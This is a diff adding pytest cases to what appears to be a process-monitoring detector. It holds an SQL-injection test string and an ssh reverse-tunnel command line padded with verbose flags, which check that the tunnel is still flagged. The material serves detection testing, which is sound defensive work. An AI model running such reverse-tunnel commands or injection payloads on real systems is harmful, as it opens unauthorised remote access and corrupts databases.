@@ -299,3 +299,32 @@ def test_text_of_a_robot_never_becomes_sql() -> None:
     scene.process(1, "/bin/x'; DROP TABLE process_creation; --", ["'", '"', "%", "\\", "x' OR '1'='1"])
     scene.process(2, CSCLIENT)
     assert "CloudSail" in Verdicts(scene.facts).only["title"]
+
+
+@pytest.mark.parametrize("front", [1, 70, 5_000])
+def test_arguments_without_end_before_the_telling_one_hide_it_from_no_rule(front: int) -> None:
+    """ssh takes any number of -v; an agent that tells them all is not to be relied upon."""
+    scene = Recording()
+    argv = ["ssh", *["-v"] * front, "-N", "-R", "2222:localhost:22", "x@203.0.113.7"]
+    scene.process(700, "/usr/bin/ssh", argv)
+    found = " ".join(titles(one) for one in Verdicts(scene.facts).incidents.values())
+    assert "Reverse tunnel: ssh" in found
+    assert ("more arguments than can be told" in found) is (front > 1)
+
+
+@pytest.mark.parametrize(
+    ("exe", "cut", "level"),
+    [
+        ("/usr/bin/ssh", ["argv"], "low"),
+        ("/usr/bin/ssh", ["cwd"], None),
+        ("/usr/bin/ssh", 7, None),
+        ("/usr/bin/g++", ["argv"], None),
+    ],
+)
+def test_a_way_out_whose_command_line_is_cut_is_told_and_a_compiler_is_not(
+    exe: str, cut: object, level: str | None
+) -> None:
+    """What stands in the middle is seen by no rule, and nobody types so much."""
+    scene = Recording()
+    scene.process(700, exe, [exe, "-v", "host"], cut=cut)
+    assert [one["level"] for one in Verdicts(scene.facts).incidents.values()] == ([level] if level else [])
